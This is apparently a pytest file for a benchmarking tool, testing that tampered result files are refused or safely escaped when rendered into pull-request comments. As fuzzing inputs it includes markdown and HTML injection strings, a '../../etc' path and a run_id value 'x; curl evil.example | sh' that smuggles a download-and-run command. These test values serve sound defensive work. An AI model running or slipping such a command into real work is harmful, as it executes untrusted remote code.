"""A foreign result is refused with a message, or judged and escaped; it never causes a traceback."""

import copy
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bench.errors import BenchError, Exit
from bench.render.comment import LIMIT, Origin, render_comment
from bench.store import baselines, results
from bench.usecases.merge import judge_together
from tests.command import Bench
from tests.factories import make_baseline, make_recording, run_at
from tests.render.reports import reports
from tests.searches import make_capacity

Place = tuple[str | int, ...]
REPORTS = reports()
ORIGIN = Origin("pr", "a" * 40, "https://github.com/owner/name/actions/runs/1")
MARKUP = "<img src=x> @everyone [x](http://evil.example) | a | ``` `x` $$y$$ \u202e\u200b\n# h"
NUMBERS = [0, -1, 1e308, -1e308, 5e-324, 2**63, 10**30, 10**400]
KINDS = ("reliable", "hostile", "interrupted", "overhead")
TEXTS = [MARKUP, "x" * 10_000, "", "../../etc"]


def list_places(value: Any, place: Place = ()) -> Iterator[tuple[Place, Any]]:
    """Yield the place of every text, number and null in a result, of equal elements only the first."""
    if isinstance(value, dict):
        for key in list(value)[:3] if place[1:2] == ("metrics",) else value:
            yield from list_places(value[key], (*place, key))
    elif isinstance(value, list):
        for number, each in enumerate(value[:1]):
            yield from list_places(each, (*place, number))
    else:
        yield place, value


def list_replacements(value: Any) -> list[Any]:
    """Return hostile values for the place of a value."""
    match value:
        case bool():
            return [not value]
        case int() | float():
            return NUMBERS
        case str():
            return TEXTS
        case _:
            return [0, 1e308, MARKUP]


def replace_value(content: Any, place: Place, value: Any) -> Any:
    """Return a copy with another value in a place."""
    found = whole = copy.deepcopy(content)
    for step in place[:-1]:
        found = found[step]
    found[place[-1]] = value
    return whole


@pytest.mark.parametrize("simulated", [True, False])
@pytest.mark.parametrize("kind", KINDS)
def test_no_value_of_a_result_causes_a_bug(bench: Bench, tmp_path: Path, kind: str, simulated: bool) -> None:
    """Each hostile value is refused or escaped: one in each place, and the next one in the next result."""
    del bench  # only for its folder
    baselines.save(make_baseline())
    content = json.loads(REPORTS[kind].result.model_dump_json())
    content["fingerprint"]["simulated"] = simulated
    file, taken = tmp_path / "result.json", 0
    first = 2 * KINDS.index(kind) + simulated  # the eight results have all eight numbers in a place
    for number, (place, value) in enumerate(list_places(content), first):
        others = list_replacements(value)
        file.write_text(json.dumps(replace_value(content, place, others[number % len(others)])))
        try:
            text = render_comment(judge_together([results.load_foreign(file)]), ORIGIN)
        except BenchError:
            continue
        taken += 1
        assert len(text) <= LIMIT, place
        assert text.startswith("<!-- bench:pr -->\n### "), place
        assert len(max(text.splitlines(), key=len)) < 5000, place
        assert not re.search(r"@everyone|\u202e|\$\$|(?<!\\)(<img|\]\(http://evil)", text), place
    assert taken > 20


def search_with(missed: int) -> dict[str, Any]:
    """The answer of a search whose first block of 100 requests has another number of missed ones."""
    content: dict[str, Any] = json.loads(make_capacity().model_dump_json())
    content["trials"][0]["counts"][0]["blocks"][0][1] = missed
    return content


@pytest.mark.parametrize(
    ("place", "value", "said"),
    [
        (("summary", "requests"), 0, "more requests succeeded than were sent"),
        (("summary", "failed_blocks"), 77, "summary.failed_blocks"),
        (("summary", "metrics", "e2e_ms", "figures", "greeting"), -99, "e2e_ms of 'greeting' is -99"),
        (("summary", "metrics", "colour"), {"count": 1, "mean": 1}, "there is no metric 'colour'"),
        (("thresholds", 0, "metric"), "colour", "there is no metric 'colour'"),
        (("validity",), {"valid": False, "reasons": []}, "an invalid run has a reason"),
        (("provenance", "run_id"), "x; curl evil.example | sh", "provenance.run_id"),
        (("capacity",), search_with(10**400), "capacity.trials[0].counts[0].blocks[0]"),
        (("capacity",), search_with(101), "more missed requests than requests"),
        (("fingerprint", "system"), "x" * 300, "fingerprint.system"),
    ],
)
def test_an_absurd_result_is_refused_with_its_place(
    bench: Bench, place: Place, value: Any, said: str
) -> None:
    """Impossible values in the right schema: the message names the field, and no verdict is printed."""
    run = results.save(run_at(1.0, 50), make_recording(), Path("results"))
    content = json.loads((run / "result.json").read_text())
    (run / "result.json").write_text(json.dumps(replace_value(content, place, value)))
    done = bench("ci", "publish", str(run), "--dry-run")
    assert (done.code, done.out) == (Exit.MEASUREMENT, "")
    assert said in done.err


def test_a_valid_run_has_answered_requests(bench: Bench) -> None:
    """A result without requests is refused."""
    run = results.save(run_at(1.0, 50), make_recording(), Path("results"))
    content = json.loads((run / "result.json").read_text())
    content["summary"] |= {"requests": 0, "outcomes": {}}
    (run / "result.json").write_text(json.dumps(content))
    assert (
        "a valid run has at least one answered request" in bench("ci", "publish", str(run), "--dry-run").err
    )


def test_a_deeply_nested_result_is_refused(bench: Bench) -> None:
    """A million brackets are refused without a traceback."""
    run = results.save(run_at(1.0, 50), make_recording(), Path("results"))
    (run / "result.json").write_text("[" * 1_000_000)
    done = bench("ci", "publish", str(run), "--dry-run")
    assert done.code == Exit.MEASUREMENT
    assert "nested too deeply" in done.err
